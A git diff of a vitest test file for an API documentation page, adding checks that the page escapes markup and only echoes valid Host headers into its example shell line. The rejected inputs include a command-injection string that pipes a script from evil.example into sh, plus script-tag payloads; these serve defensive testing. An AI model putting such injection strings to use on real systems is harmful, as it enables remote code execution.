@@ -3,6 +3,7 @@ import { readFileSync } from 'node:fs';
 import { describe, expect, it } from 'vitest';
 import { parse } from 'yaml';
 import * as z from 'zod/mini';
+import shownPage from '../../docs/api-page.json' with { type: 'json' };
 import document from '../../docs/openapi.json' with { type: 'json' };
 import { handler as getDocs } from '../../functions/get-docs.ts';
 import { handler as getOpenapi } from '../../functions/get-openapi.ts';
@@ -12,7 +13,7 @@ import { Problem } from '../../lib/http/contracts/problems.ts';
 import type { Handler } from '../../lib/http/handler.ts';
 import { problemReply } from '../../lib/http/problem.ts';
 import { type ApiDocument, callsOf, problemCodesOf } from '../../local/api-docs/api-document.ts';
-import { exampleOf, openApiText } from '../../local/api-docs/generate.ts';
+import { apiPageText, exampleOf, openApiText } from '../../local/api-docs/generate.ts';
 import { docsPage } from '../../local/api-docs/page.ts';
 import { call } from '../support/http.ts';
 
@@ -30,6 +31,11 @@ describe('the OpenAPI document', () => {
   it('is the one that the contracts make', () => {
     const stored = readFileSync('docs/openapi.json', 'utf8');
     expect(stored === openApiText(), 'docs/openapi.json is out of date: npm run openapi').toBe(true);
+  });
+
+  it('is shown on a page that is up to date with it', async () => {
+    const stored = readFileSync('docs/api-page.json', 'utf8');
+    expect(stored === (await apiPageText()), 'docs/api-page.json is out of date: npm run openapi').toBe(true);
   });
 
   it('refers to nothing that it does not hold', () => {
@@ -135,7 +141,7 @@ describe('every example', () => {
 });
 
 describe('the documentation page', () => {
-  const page = docsPage(document);
+  const page = shownPage.html.join('https://api.example');
 
   it.each(calls)('shows $operationId', ({ operationId, method, path }) => {
     expect(page).toContain(`<article id="${operationId}"`);
@@ -154,12 +160,12 @@ describe('the documentation page', () => {
     expect(places).toEqual(expect.arrayContaining(targets));
   });
 
-  it('shows text as text, whatever is in it', () => {
+  it('shows text as text, whatever is in it', async () => {
     const markup = `</pre><script>alert("x" & 'y')</script>`;
     const hostile: ApiDocument = JSON.parse(JSON.stringify(document), (key, value: unknown) =>
       typeof value === 'string' && key !== '$ref' ? value + markup : value,
     );
-    const shown = docsPage(hostile);
+    const shown = await docsPage(hostile);
     expect(shown).not.toContain('<script');
     expect(shown).not.toContain('"x"');
     expect(shown).toContain('&lt;script&gt;alert(&quot;x&quot; &amp; &#39;y&#39;)&lt;/script&gt;');
@@ -192,6 +198,32 @@ describe('GET /openapi.json and GET /docs', () => {
       `default-src 'none'; style-src 'sha256-${hash}'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'`,
     ]);
     expect(page).not.toMatch(/<script|<link|<img|\ssrc=|\sstyle=|@import|url\(/);
+  });
+
+  it.each([
+    ['localhost:4000', 'http://localhost:4000'],
+    ['127.0.0.1:4000', 'http://127.0.0.1:4000'],
+    ['[::1]:4000', 'http://[::1]:4000'],
+    ['abc.execute-api.us-east-1.amazonaws.com', 'https://abc.execute-api.us-east-1.amazonaws.com'],
+    ['API.rsolv.dev', 'https://api.rsolv.dev'],
+  ])('the page read from %s has that address in its examples', async (host, address) => {
+    const { body } = await call(wrapped(getDocs), { headers: { host } });
+    expect(String(body['page'])).toContain(`export RSOLV_API=&#39;${address}&#39;`);
+  });
+
+  it.each([
+    ["x'; curl evil.example | sh; '"],
+    ['<script>alert(1)</script>'],
+    ['two words.example'],
+    ['user@evil.example'],
+    ['evil.example/path'],
+    [`${'a'.repeat(300)}.example`],
+    [''],
+  ])('the page repeats no Host header that is no host name: %s', async (host) => {
+    const { status, body } = await call(wrapped(getDocs), { headers: { host } });
+    expect(status).toBe(200);
+    expect(String(body['page'])).toContain('export RSOLV_API=&#39;https://…&#39;');
+    if (host !== '') expect(String(body['page'])).not.toContain(host);
   });
 
   it.each([
